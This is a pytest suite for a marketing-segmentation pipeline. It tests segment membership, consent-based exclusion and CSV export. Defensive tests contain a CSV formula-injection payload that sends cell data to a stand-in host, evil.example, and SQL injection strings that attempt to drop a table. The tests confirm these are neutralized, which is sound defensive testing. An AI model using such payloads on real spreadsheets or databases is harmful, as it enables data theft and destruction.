"""Segments built for real (dbt) on the small data set, checked against the generator's truth."""

from __future__ import annotations

import copy
import csv
import hashlib
import json
import shutil
from datetime import date
from pathlib import Path

import duckdb
import pytest
import yaml

from microseg.config import Settings
from microseg.errors import MicrosegError
from microseg.experiments.arms import HOLDOUT_SALT
from microseg.experiments.assignment import bucket
from microseg.experiments.grammar import load_configured_experiments
from microseg.export import export_audience
from microseg.ingest import ingest_paths
from microseg.segments import run_segments
from microseg.transform import run_dbt, transform
from tests.helpers import query, run_cli, truth_connection

NIGHTS = (date(2026, 10, 3), date(2026, 10, 4), date(2026, 10, 6))

# The default segments, re-derived from the generator's planted sessions (never from the
# pipeline's marts): sessions in scope ended (+ 30 min timeout) before D, started within 7 days.
EXPECTED_MEMBERS = """
with
truth as (
    select t.*, p.person_id
    from truth_sessions t join truth_people p using (person_key)
),
scope as (
    select * from truth
    where session_end_at + interval 30 minute < $as_of::timestamp
      and session_start_at >= $as_of::timestamp - interval 7 day
),
windows as (
    select person_id,
           count(*) over (partition by person_id order by session_start_at
                          range between current row and interval 24 hour following) as n
    from scope
),
expected as (
    select 'subscribe_curious_readers' as segment_name, person_id from scope where subscribe_curious
    union select 'product_hesitators', person_id from scope where product_hesitation
    union select 'deep_content_readers', person_id from scope where deep_read
    union select 'cart_abandoners', person_id from scope where cart_abandon
    union select 'low_engagement', person_id from scope group by person_id having bool_and(bounce)
    union select 'frequent_visitors', person_id from windows where n > 3
    union select 'recent_engagers', person_id from truth
          where session_start_at < $as_of::timestamp
            and session_end_at >= $as_of::timestamp - interval 60 minute
)
select segment_name, person_id from expected
-- consent: withdrawn on the as-of date, or withdrawn since (that reaches back over every date)
where not truth_opted_out_on(person_id, $as_of::timestamp)
  and person_id not in (select person_id from truth_people where is_opted_out)
"""


@pytest.fixture(scope="module")
def segmented(built: Settings) -> Settings:
    """Three nightly segment runs on the shared warehouse."""
    for night in NIGHTS:
        run_segments(built, night)
    return built


@pytest.fixture
def con(segmented, small_dataset):
    connection = truth_connection(segmented, small_dataset)
    yield connection
    connection.close()


def _members(con, as_of: date) -> set[tuple[str, str]]:
    return set(
        con.execute(
            "select segment_name, person_id from marts.segment_memberships where as_of_date = ?",
            [as_of],
        ).fetchall()
    )


def test_default_segments_match_the_planted_truth_exactly(con) -> None:
    sizes: dict[str, int] = {}
    for night in NIGHTS:
        expected = set(con.execute(EXPECTED_MEMBERS, {"as_of": night}).fetchall())
        found = _members(con, night)
        assert found - expected == set(), f"unexpected members on {night}"
        assert expected - found == set(), f"missing members on {night}"
        for name, _ in found:
            sizes[name] = sizes.get(name, 0) + 1
    # every segment has members on some night, so none of the comparisons is vacuous
    assert len(sizes) == 7 and min(sizes.values()) >= 3, sizes


def test_evidence_holds_the_values_that_qualified(con) -> None:
    rows = con.execute("""
        select segment_name, evidence from marts.segment_memberships
        where segment_name in ('subscribe_curious_readers', 'product_hesitators',
                               'frequent_visitors')
    """).fetchall()
    assert rows
    for name, evidence in rows:
        values = json.loads(evidence)
        if name == "subscribe_curious_readers":
            assert values["article_views_10m"] >= 3 and values["subscribe_hovers"] >= 2
        elif name == "product_hesitators":
            assert values["product_dwell_s"] > 120
        else:
            assert values["sessions_24h"] > 3


def test_relevance_decays_from_the_latest_qualifying_session(con) -> None:
    """product_hesitators declares a 3-day half-life: its members' relevance follows the
    planted hesitation sessions; segments without a decay stay at 1."""
    relevances = []
    for night in NIGHTS:
        rows = con.execute(
            """with latest as (
                   select p.person_id, max(t.session_end_at) as last_end
                   from truth_sessions t join truth_people p using (person_key)
                   where t.product_hesitation
                     and t.session_end_at + interval 30 minute < $as_of::timestamp
                     and t.session_start_at >= $as_of::timestamp - interval 7 day
                   group by all)
               select m.relevance,
                      exp(-ln(2) * epoch($as_of::timestamp - latest.last_end) / (3 * 86400))
               from marts.segment_memberships m join latest using (person_id)
               where m.segment_name = 'product_hesitators' and m.as_of_date = $as_of""",
            {"as_of": night},
        ).fetchall()
        assert rows and all(abs(found - expected) < 1e-6 for found, expected in rows)
        relevances += [found for found, _ in rows]
    assert min(relevances) < 0.5 < max(relevances)  # both fresh and faded members
    others = con.execute(
        "select distinct relevance from marts.segment_memberships "
        "where segment_name <> 'product_hesitators'"
    ).fetchall()
    assert others == [(1.0,)]


def test_history_records_joins_and_exits_across_three_nights(con) -> None:
    members = {night: _members(con, night) for night in NIGHTS}
    expected: dict[tuple[str, str, date], date | None] = {}
    open_spells: dict[tuple[str, str], date] = {}
    for night in NIGHTS:  # derive the spells by hand from the three nights
        for key in members[night]:
            open_spells.setdefault(key, night)
        for key in [k for k in open_spells if k not in members[night]]:
            expected[(*key, open_spells.pop(key))] = night
    expected.update({(*key, start): None for key, start in open_spells.items()})
    history = {
        (segment, person, entered.date()): exited.date() if exited else None
        for segment, person, entered, exited in con.execute(
            "select segment_name, person_id, entered_at, exited_at "
            "from marts.segment_membership_history"
        ).fetchall()
    }
    assert history == expected
    summary = con.execute("""
        select as_of_date, sum(members), sum(joined), sum(left_segment)
        from marts.segment_daily_summary group by all order by all
    """).fetchall()
    assert [row[0] for row in summary] == list(NIGHTS)
    (_, m1, *_), (_, m2, j2, l2), (_, m3, j3, l3) = summary
    assert j2 > 0 and l2 > 0 and j3 > 0 and l3 > 0  # people really came and went
    assert m2 == m1 + j2 - l2 and m3 == m2 + j3 - l3


def test_rerunning_a_night_changes_nothing(segmented: Settings) -> None:
    tables = ("segment_memberships", "segment_membership_history", "segment_daily_summary")

    def snapshot() -> dict[str, list[tuple]]:
        return {t: query(segmented, f"select * from marts.{t} order by all") for t in tables}

    before = snapshot()
    run_segments(segmented, NIGHTS[1])
    assert snapshot() == before


# Every threshold of segments.yml (a path into its rule) moved one unit each way. The data set
# holds sessions on both sides of each (generate/thresholds.py), so each move changes some
# members: the exact-membership test above fails when one moves. Not moved: the 7-day scopes
# (the data set spans 5 days); the scroll mark moves to the next mark below only (marks are 25 %
# apart: any of 76-100 is the rule as it is), a count of at least 1 up only.
THRESHOLD_MOVES = {
    "subscribe_curious_readers": {
        ("any_session", "all", 0, "within_minutes"): (9, 11),
        ("any_session", "all", 0, ">="): (2, 4),
        ("any_session", "all", 1, ">="): (1, 3),
    },
    "product_hesitators": {("any_session", "all", 0, ">"): (119, 121)},
    "frequent_visitors": {("sessions_within_hours",): (23, 25), (">",): (2, 4)},
    "recent_engagers": {("<=",): (59, 61)},
    "deep_content_readers": {
        ("any_session", "all", 0, "dwell", "max_scroll_percent", ">="): (75,),
        ("any_session", "all", 0, ">="): (179, 181),
    },
    "low_engagement": {
        ("every_session", "all", 0, "="): (0, 2),
        ("every_session", "all", 1, "<"): (9, 11),
    },
    "cart_abandoners": {
        ("any_session", "all", 0, "within_minutes"): (14, 16),
        ("any_session", "all", 0, ">="): (2,),
    },
}
UNMOVED = ("within_days",)


def _thresholds(node, path=()) -> set[tuple]:
    """The paths of every number in a rule, but the 7-day scopes."""
    if isinstance(node, dict):
        items = node.items()
    elif isinstance(node, list):
        items = enumerate(node)
    else:
        is_number = isinstance(node, int | float) and not isinstance(node, bool)
        return {path} if is_number and path[-1] not in UNMOVED else set()
    return set().union(*(_thresholds(child, (*path, key)) for key, child in items))


def test_moving_any_threshold_by_one_unit_changes_members(scratch, tmp_path) -> None:
    defined = yaml.safe_load(scratch.segments_file.read_text("utf-8"))["segments"]
    assert {s["name"]: _thresholds(s["rule"]) for s in defined} == {
        name: set(moves) for name, moves in THRESHOLD_MOVES.items()
    }
    trial, moves = list(defined), {}
    for segment in defined:
        for path, values in THRESHOLD_MOVES[segment["name"]].items():
            for value in values:
                moved = copy.deepcopy(segment)
                node = moved["rule"]
                for key in path[:-1]:
                    node = node[key]
                node[path[-1]] = value
                moved["name"] = f"moved_{len(moves)}"
                moves[moved["name"]] = (segment["name"], path, value)
                trial.append(moved)
    run_segments(scratch, NIGHTS[-1], file=_definitions(tmp_path / "moved.yml", trial))
    members: dict[str, set[str]] = {}
    for name, person in query(
        scratch, "select segment_name, person_id from segments_trial.segment_memberships"
    ):
        members.setdefault(name, set()).add(person)
    assert all(members.get(s["name"]) for s in defined)
    unchanged = [move for name, move in moves.items() if members.get(name) == members[move[0]]]
    assert unchanged == []


@pytest.fixture
def scratch(built: Settings, tmp_path: Path) -> Settings:
    """A private copy of the built warehouse (for tests that add events or segments)."""
    home = tmp_path / "home"
    home.mkdir()
    shutil.copy(built.warehouse_path, home / "warehouse.duckdb")
    return Settings.from_env({"MICROSEG_HOME": str(home), "MICROSEG_LATE_ARRIVAL_HOURS": "96"})


def test_each_use_reads_consent_for_its_own_purpose(con, segmented, tmp_path) -> None:
    """People who never grant marketing stay in segments (personalization) and are in no
    export (marketing, opt-in); neither are bots, who state no consent at all, nor the
    experiments' global holdout."""
    night = NIGHTS[-1]
    members = {p for s, p in _members(con, night) if s == "cart_abandoners"}
    not_for_marketing = {
        person
        for (person,) in con.execute(
            "select person_id from truth_people where declines_marketing or is_bot"
        ).fetchall()
    }
    assert members & not_for_marketing and members - not_for_marketing
    holdout = load_configured_experiments(segmented).holdout
    held = {p for p in members - not_for_marketing if bucket(HOLDOUT_SALT, p) < holdout}
    out = tmp_path / "audience.csv"
    result = export_audience(segmented, "cart_abandoners", out, as_of=night)
    with out.open(newline="", encoding="utf-8") as handle:
        exported = {row["person_id"] for row in csv.DictReader(handle)}
    assert held and result.held_out == len(held)
    assert exported == members - not_for_marketing - held


def _event(event_id: str, event_type: str, at: str, **fields) -> dict:
    return {"event_id": event_id, "event_type": event_type, "event_at": at, **fields}


def test_opt_out_leaves_every_segment_and_export_and_formulas_are_neutralized(
    scratch: Settings, tmp_path: Path
) -> None:
    night = date(2026, 10, 6)
    run_segments(scratch, NIGHTS[0])
    run_segments(scratch, night)
    leaver, leaver_user = query(
        scratch,
        "select m.person_id, p.user_id from marts.segment_memberships m "
        "join marts.dim_persons p using (person_id) "
        "where m.as_of_date = ? and m.segment_name = 'cart_abandoners' and p.user_id is not null "
        "and m.person_id in (select person_id from marts.segment_memberships "
        "                    where as_of_date = ?) order by 1 limit 1",
        [night, NIGHTS[0]],
    )[0]
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    product = {"page_type": "product", "page_url": "https://shop.example.com/product/9"}
    events = [
        # the leaver withdraws consent for personalization
        _event(
            "t-optout",
            "consent",
            "2026-10-05T20:00:00Z",
            user_id=leaver_user,
            properties={"purposes": {"personalization": False, "marketing": False}},
        ),
        # a new cart abandoner whose login id is a spreadsheet formula (marketing is opt-in)
        _event(
            "t-evil-0",
            "consent",
            "2026-10-05T19:59:00Z",
            user_id=evil,
            properties={"purposes": {"marketing": True}},
        ),
        _event("t-evil-1", "page_view", "2026-10-05T20:00:00Z", user_id=evil, **product),
        _event("t-evil-2", "add_to_cart", "2026-10-05T20:01:00Z", user_id=evil, **product),
    ]
    dump = tmp_path / "late.jsonl"
    dump.write_text("".join(json.dumps(e) + "\n" for e in events))
    ingest_paths(scratch, [dump])
    transform(scratch)
    run_segments(scratch, night)

    assert query(
        scratch, "select count(*) from marts.segment_memberships where person_id = ?", [leaver]
    ) == [(0,)]  # gone from this night and from the earlier one
    assert query(
        scratch,
        "select count(*) from marts.segment_membership_history where person_id = ?",
        [leaver],
    ) == [(0,)]

    out = tmp_path / "audience.csv"
    result = export_audience(scratch, "cart_abandoners", out)
    with out.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert len(rows) == result.rows > 10
    assert leaver not in {row["person_id"] for row in rows}
    evil_rows = [row for row in rows if evil in row["user_id"]]
    assert [row["user_id"] for row in evil_rows] == ["'" + evil]
    assert not any(value[:1] in "=+-@" for row in rows for value in row.values() if value)
    assert rows[0]["last_seen_at"].endswith("Z") and "T" in rows[0]["last_seen_at"]
    manifest = json.loads(result.manifest_path.read_text())
    assert manifest["rows"] == len(rows) and manifest["as_of_date"] == "2026-10-06"
    assert manifest["sha256"] == hashlib.sha256(out.read_bytes()).hexdigest()
    assert (
        manifest["segment_definition_hash"]
        == query(
            scratch,
            "select definition_hash from marts.segment_evaluations "
            "where segment_name = 'cart_abandoners' and as_of_date = ?",
            [night],
        )[0][0]
    )
    # exporting again writes the same bytes
    first = out.read_bytes()
    export_audience(scratch, "cart_abandoners", out)
    assert out.read_bytes() == first


def test_a_definition_cannot_inject_sql(scratch: Settings, tmp_path: Path) -> None:
    hostile = "article'; drop table marts.fct_sessions; --"
    definitions = tmp_path / "segments.yml"
    rule = {"any_session": {"count": "page_view", "where": {"page_type": hostile}, ">=": 1}}
    segment = {"name": "probe", "description": "d", "owner": "o", "kind": "rule", "rule": rule}
    definitions.write_text(yaml.safe_dump({"segments": [segment]}))
    settings = Settings.from_env(
        {"MICROSEG_HOME": str(scratch.home), "MICROSEG_SEGMENTS_FILE": str(definitions)}
    )
    assert run_segments(settings, NIGHTS[0]).members == {"probe": 0}
    assert query(settings, "select count(*) from marts.fct_sessions")[0][0] > 500
    # the macros check identifiers again, for a plan handed to dbt without microseg
    plan = {
        "name": "probe",
        "title": "t",
        "description": "d",
        "owner": "o",
        "kind": "rule",
        "priority": 0,
        "exclusive_group": None,
        "definition_hash": "x",
        "blocks": [],
        "person_leaves": [
            {
                "id": "l0",
                "subject": "feature",
                "key": "k",
                "op": ">",
                "value": 1,
                "column": "sessions_7d from marts.fct_sessions; --",
            }
        ],
        "expression": {"ref": "l0"},
        "evidence": [["k", "l0"]],
    }
    with pytest.raises(MicrosegError, match="invalid identifier"):
        run_dbt(
            settings,
            "build",
            "--select",
            "segment_memberships",
            run_values={"segment_as_of": "2026-10-03", "segment_plan": [plan]},
        )
    with duckdb.connect(str(settings.warehouse_path), read_only=True) as con:
        assert con.execute("select count(*) from marts.fct_sessions").fetchone()[0] > 500


def test_exclusive_group_keeps_the_highest_priority_segment(scratch: Settings, tmp_path) -> None:
    def segment(name: str, priority: int, rule: dict) -> dict:
        return {
            "name": name,
            "description": "d",
            "owner": "o",
            "kind": "rule",
            "priority": priority,
            "exclusive_group": "engagement",
            "rule": rule,
        }

    active = {"feature": "sessions_7d", ">=": 1}
    busy = {"feature": "sessions_7d", ">=": 3}
    definitions = tmp_path / "segments.yml"
    definitions.write_text(
        yaml.safe_dump(
            {
                "segments": [
                    segment("active", 1, active),
                    segment("busy", 2, busy),
                    {**segment("also_busy", 0, busy), "exclusive_group": None},
                ]
            }
        )
    )
    settings = Settings.from_env(
        {"MICROSEG_HOME": str(scratch.home), "MICROSEG_SEGMENTS_FILE": str(definitions)}
    )
    sizes = run_segments(settings, NIGHTS[1]).members
    both = query(
        settings,
        "select count(*) from marts.segment_memberships a join marts.segment_memberships b "
        "using (person_id, as_of_date) where a.segment_name = 'active' "
        "and b.segment_name = 'busy'",
    )[0][0]
    assert both == 0
    # everybody busy is busy (the higher priority), and outside the group also_busy agrees
    assert sizes["busy"] == sizes["also_busy"] > 0
    everyone_active = query(
        settings,
        "select count(*) from marts.fct_user_features_daily "
        "where as_of_date = ? and sessions_7d >= 1 and not is_opted_out and person_id not in "
        "(select person_id from marts.dim_persons where is_opted_out)",
        [NIGHTS[1]],
    )[0][0]
    assert sizes["active"] == everyone_active - sizes["busy"]


def _definitions(path: Path, segments: list[dict]) -> Path:
    path.write_text(yaml.safe_dump({"segments": segments}, allow_unicode=True), "utf-8")
    return path


def _rule_segment(name: str, title: str, sessions: int) -> dict:
    return {
        "name": name,
        "title": title,
        "description": "d",
        "owner": "o",
        "kind": "rule",
        "rule": {"feature": "sessions_7d", ">=": sessions},
    }


def test_a_trial_file_never_touches_production(scratch: Settings, tmp_path: Path) -> None:
    """Evaluating another file once replaced the production memberships of that date."""
    run_segments(scratch, NIGHTS[1])
    tables = ("segment_memberships", "segment_membership_history", "segment_evaluations")

    def production() -> dict[str, list[tuple]]:
        return {t: query(scratch, f"select * from marts.{t} order by all") for t in tables}

    before = production()
    trial = _definitions(tmp_path / "trial.yml", [_rule_segment("busy", "Busy", 2)])
    run = run_segments(scratch, NIGHTS[1], file=trial)
    assert run.schema == "segments_trial" and run.members["busy"] > 0
    assert production() == before
    trial_members = query(
        scratch,
        "select count(*) from segments_trial.segment_memberships where as_of_date = ?",
        [NIGHTS[1]],
    )
    assert trial_members == [(run.members["busy"],)]
    # the configured file, named explicitly, is production
    assert run_segments(scratch, NIGHTS[1], file=scratch.segments_file).schema == "marts"


def test_a_thousand_segments_with_any_unicode_reach_dbt(scratch: Settings, tmp_path: Path) -> None:
    """The plan once went to dbt on its command line: an emoji broke its YAML parsing and
    ~190 segments exceeded the argument limit."""
    titles = ["Lectores 📚 «curiosos»", "買い物客 🛒", "Ünïcödé 'quoted' \"too\""]
    segments = [_rule_segment(f"s{i:04d}", f"{titles[i % 3]} {i}", 1 + i % 4) for i in range(1000)]
    settings = Settings.from_env(
        {
            "MICROSEG_HOME": str(scratch.home),
            "MICROSEG_SEGMENTS_FILE": str(_definitions(tmp_path / "many.yml", segments)),
        }
    )
    members = run_segments(settings, NIGHTS[1]).members
    assert len(members) == 1000
    by_threshold = {n: members[f"s{n - 1:04d}"] for n in (1, 2, 3, 4)}
    assert by_threshold[1] > by_threshold[2] > by_threshold[3] > 0
    assert all(members[f"s{i:04d}"] == by_threshold[1 + i % 4] for i in range(1000))
    stored = dict(
        query(
            settings,
            "select segment_name, segment_title from marts.segment_evaluations "
            "where as_of_date = ? and segment_name in ('s0000', 's0001', 's0002')",
            [NIGHTS[1]],
        )
    )
    assert stored == {f"s{i:04d}": f"{titles[i]} {i}" for i in range(3)}


def test_dates_without_features_are_refused_naming_the_newest(scratch: Settings) -> None:
    """`--as-of` tomorrow once exited 0, recorded every member as leaving, and the export
    wrote an empty CSV."""
    run_segments(scratch, NIGHTS[1])
    newest = query(scratch, "select max(as_of_date) from marts.fct_user_features_daily")[0][0]
    before = query(scratch, "select count(*) from marts.segment_membership_history")
    for command in ("segments", "score", "cluster"):
        proc = run_cli(command, "--as-of", "2026-12-02", home=scratch.home)
        assert proc.returncode == 2, proc.stderr
        assert proc.stderr == (
            f"error: no features for 2026-12-02: the newest as-of date is {newest} "
            "(run the night of 2026-12-02 first: `microseg run --as-of 2026-12-02`)\n"
        )
    assert query(scratch, "select count(*) from marts.segment_membership_history") == before


def test_export_errors_are_one_line_and_excel_gets_a_bom(scratch: Settings, tmp_path) -> None:
    run_segments(scratch, NIGHTS[1])
    folder = tmp_path / "exports"
    folder.mkdir()
    cases = [
        (["--segment", "cart_abandoners", "--out", str(folder)], "is a folder: name the file"),
        (["--segment", "cart_abandonners", "--out", str(folder / "a.csv")], "does not exist"),
        (
            [
                "--segment",
                "cart_abandoners",
                "--as-of",
                "2026-10-02",
                "--out",
                str(folder / "a.csv"),
            ],
            "was not evaluated on 2026-10-02 (newest: ",
        ),
    ]
    for args, message in cases:
        proc = run_cli("export", *args, home=scratch.home)
        assert proc.returncode == 2, proc.stderr
        assert message in proc.stderr and proc.stderr.count("\n") == 1
    assert list(folder.iterdir()) == []  # no partial file, visible or hidden

    out = folder / "excel.csv"
    proc = run_cli(
        "export", "--segment", "cart_abandoners", "--out", str(out), "--excel", home=scratch.home
    )
    assert proc.returncode == 0, proc.stderr
    data = out.read_bytes()
    assert data.startswith(b"\xef\xbb\xbfperson_id,")
    manifest = json.loads((folder / "excel.csv.manifest.json").read_text())
    assert manifest["sha256"] == hashlib.sha256(data).hexdigest()

    # the audience view as a build under another exports purpose left it: refused, not mislabeled
    with duckdb.connect(str(scratch.warehouse_path)) as con:
        con.execute("alter view marts.segment_audiences rename to audiences_built_before")
        con.execute(
            "create view marts.segment_audiences as select * replace "
            "('analytics' as consent_purpose) from marts.audiences_built_before"
        )
    proc = run_cli("export", "--segment", "cart_abandoners", "--out", str(out), home=scratch.home)
    assert proc.returncode == 2 and proc.stderr.count("\n") == 1, proc.stderr
    assert "checks analytics consent, but dbt_project.yml now names marketing" in proc.stderr
